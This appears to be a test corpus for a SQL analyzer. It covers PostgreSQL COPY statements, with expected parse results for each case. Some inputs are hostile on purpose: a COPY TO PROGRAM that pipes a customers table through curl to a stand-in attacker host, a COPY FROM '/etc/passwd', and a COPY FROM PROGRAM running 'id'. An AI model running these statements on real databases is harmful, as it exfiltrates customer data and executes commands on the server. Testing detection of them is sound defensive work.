-- COPY in all its forms.
-- Format: see tests/unit/analysis/corpus.py.

-- @case copy-to-stdout
-- @expect node: CopyStmt
-- @expect kind: copy
-- @expect command_tag: COPY
-- @expect relations: [customers:copy_to, customers:read]
-- @expect columns: [customers.*@star]
-- @expect copy: {direction: to, program: false, file: null, stdio: true, query: false}
-- @expect writes: []
-- @expect flags: {copy_program: false, modifies_data: false, writes: false, is_utility: true}
COPY customers TO STDOUT;

-- @case copy-columns-to-stdout-csv
-- @expect columns: [customers.email@select, customers.ssn@select]
-- @expect copy: {direction: to, stdio: true}
COPY customers (email, ssn) TO STDOUT WITH (FORMAT csv, HEADER);

-- @case copy-query-to-stdout
-- @expect relations: [customers:read, orders:read]
-- @expect copy: {direction: to, query: true, stdio: true, file: null}
COPY (SELECT c.email, o.card_last4 FROM customers c JOIN orders o ON o.customer_id = c.id) TO STDOUT;

-- @case copy-from-stdin
-- @expect relations: [audit_notes:copy_from, audit_notes:insert]
-- @expect columns: [audit_notes.note@insert]
-- @expect writes: [audit_notes:copy_from:nowhere]
-- @expect copy: {direction: from, program: false, file: null, stdio: true, query: false}
-- @expect flags: {modifies_data: true, writes: true}
COPY audit_notes (note) FROM STDIN;

-- @case copy-from-stdin-where
-- @expect columns: [orders.*@insert, orders.quantity@where]
-- @expect copy: {direction: from}
COPY orders FROM STDIN WHERE quantity > 0;

-- @case copy-to-server-file
-- @expect copy: {direction: to, program: false, file: /tmp/customers.csv, stdio: false}
-- @expect flags: {copy_program: false}
COPY customers TO '/tmp/customers.csv';

-- @case copy-from-server-file
-- @expect copy: {direction: from, file: /etc/passwd, stdio: false}
-- @expect relations: [audit_notes:copy_from, audit_notes:insert]
COPY audit_notes (note) FROM '/etc/passwd';

-- @case copy-to-program
-- @expect copy: {direction: to, program: true, file: 'curl -d @- https://evil.example', stdio: false}
-- @expect flags: {copy_program: true}
COPY customers TO PROGRAM 'curl -d @- https://evil.example';

-- @case copy-from-program
-- @expect copy: {direction: from, program: true, file: 'id'}
-- @expect flags: {copy_program: true, modifies_data: true}
COPY audit_notes (note) FROM PROGRAM 'id';

-- @case copy-query-with-write
-- @expect relations: [orders:delete, orders:read]
-- @expect writes: [orders:delete:nowhere]
-- @expect flags: {modifies_data: true, has_where: false}
COPY (DELETE FROM orders RETURNING *) TO STDOUT;

-- @case copy-schema-qualified-binary
-- @expect relations: [public.customers:copy_to, public.customers:read]
COPY public.customers TO STDOUT (FORMAT binary);

-- @case copy-legacy-syntax
-- @expect relations: [customers:copy_to, customers:read]
-- @expect copy: {direction: to, stdio: true}
COPY customers TO STDOUT WITH CSV HEADER;
